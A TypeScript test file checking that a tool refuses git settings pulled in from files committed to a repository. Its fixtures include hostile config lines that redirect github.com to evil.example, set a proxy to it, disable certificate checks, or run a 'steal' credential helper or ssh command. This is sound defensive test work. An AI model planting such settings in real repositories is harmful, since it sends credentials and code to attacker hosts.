/** Settings of git's in files of the checkout, and the user's own; real git, and a canary that listens. */

import assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import { symlink } from "node:fs/promises";
import { join } from "node:path";
import { test } from "node:test";
import { Failure } from "../../src/error.ts";
import { requireOwnGitSettings } from "../../src/host/committed_git_settings.ts";
import { createGit } from "../../src/host/git.ts";
import { openTagging } from "../../src/host/git_tags.ts";
import { rawServer, reply } from "../support/raw_server.ts";
import { JOB_ENV, remoteRepo } from "../support/remote_repo.ts";
import { writeTree } from "../support/temp.ts";

const TOKEN = `ghs_${"x".repeat(36)}`;
const BASIC = Buffer.from(`x-access-token:${TOKEN}`).toString("base64");

function refused(message: RegExp): (error: unknown) => true {
  return (error) => {
    assert.ok(error instanceof Failure, String(error));
    assert.equal(error.code, "PIOT_SETTINGS_COMMITTED");
    assert.equal(error.exitCode, 2);
    assert.match(error.message, message);
    assert.match(error.hint!, /GIT_CONFIG_COUNT/);
    return true;
  };
}

const LEADING: readonly { readonly name: string; readonly text: string; readonly found: RegExp }[] =
  [
    {
      name: "another address",
      text: '[url "https://evil.example/"]\n\tinsteadOf = https://github.com/\n',
      found: /team\/gitconfig:2 .*`url\.https:\/\/evil\.example\/\.insteadof`/,
    },
    {
      name: "another address for pushes",
      text: '[url "https://evil.example/"]\npushInsteadOf = https://github.com/\n',
      found: /pushinsteadof/,
    },
    {
      name: "a proxy",
      text: "[http]\n\n  proxy = http://evil.example\n",
      found: /gitconfig:3 .*`http\.proxy`/,
    },
    {
      name: "unchecked certificates",
      text: "[http]\nsslVerify = false\n",
      found: /`http\.sslverify`/,
    },
    {
      name: "redirects for one address",
      text: '[http "https://github.com/"]\nfollowRedirects = true\n',
      found: /followredirects/,
    },
    {
      name: "a credential helper",
      text: "[credential]\nhelper = !steal\n",
      found: /`credential\.helper`/,
    },
    {
      name: "a program in place of ssh",
      text: "[core]\nsshCommand = ./steal\n",
      found: /`core\.sshcommand`/,
    },
    {
      name: "another address of the remote",
      text: '[remote "origin"]\npushurl = https://evil.example/\n',
      found: /pushurl/,
    },
  ];
for (const { name, text, found } of LEADING) {
  test(`a committed file that git's settings include leads git nowhere: ${name}`, async () => {
    await using repo = await remoteRepo({ "a.txt": "a\n", "team/gitconfig": text });
    await requireOwnGitSettings(repo.host);
    await repo.git("config", "include.path", "../team/gitconfig");
    await assert.rejects(requireOwnGitSettings(repo.host), refused(found));
  });
}

test("a committed file leads git nowhere through a link from git's own folder either", async () => {
  await using repo = await remoteRepo({
    "a.txt": "a\n",
    "team/gitconfig": "[http]\nproxy = http://evil.example\n",
  });
  await symlink("../team/gitconfig", join(repo.path, ".git/team"));
  await repo.git("config", "include.path", "team");
  await assert.rejects(
    requireOwnGitSettings(repo.host),
    refused(/team\/gitconfig:2 .*`http\.proxy`/),
  );
});

test("what a committed file says of other things stays", async () => {
  const text = "[alias]\nst = status\n[core]\nautocrlf = input\n[user]\nname = Team\n";
  await using repo = await remoteRepo({ "a.txt": "a\n", "team/gitconfig": text });
  await repo.git("config", "include.path", "../team/gitconfig");
  await requireOwnGitSettings(repo.host);
});

test("the repository's own settings, and a file that nobody committed, are the user's", async () => {
  await using repo = await remoteRepo();
  await repo.git("config", "http.proxy", "http://127.0.0.1:1");
  await repo.git("config", "url.https://mirror.example/.insteadOf", "https://github.com/");
  await writeTree(repo.path, { "local.config": "[http]\nproxy = http://127.0.0.1:2\n" });
  await repo.git("config", "include.path", "../local.config");
  await requireOwnGitSettings(repo.host);
});

test("a committed file is found from a folder below, and told once for each line", async () => {
  const text = "[http]\nproxy = http://evil.example\nsslVerify = false\n";
  await using repo = await remoteRepo({ "sub/a.txt": "a\n", "git config": text });
  await repo.git("config", "include.path", "../git config");
  const below = createGit({ cwd: `${repo.path}/sub`, env: JOB_ENV });
  await assert.rejects(requireOwnGitSettings(below), (error: Failure) => {
    assert.equal(error.problems.length, 2);
    return true;
  });
});

test("no token arrives at the server that a committed file names, and nothing is asked there", async () => {
  await using canary = await rawServer(() => reply(""));
  await using own = await rawServer(() => reply("", { status: "404 Not Found" }));
  const text = `[url "${canary.url}/"]\n\tinsteadOf = ${own.url}/\n`;
  await using repo = await remoteRepo({ "a.txt": "a\n", "team/gitconfig": text });
  await repo.git("remote", "set-url", "origin", `${own.url}/ada/engine.git`);
  await repo.git("config", "include.path", "../team/gitconfig");
  const env = { GITHUB_TOKEN: TOKEN, GITHUB_SERVER_URL: canary.url };
  const opening = openTagging(repo.host, { env, tags: ["v1"] });
  await assert.rejects(opening, refused(/insteadof/));
  for (const { requests } of [canary, own]) {
    assert.equal(requests.some((request) => request.text.includes(BASIC)), false);
    assert.deepEqual(requests, []);
  }
});
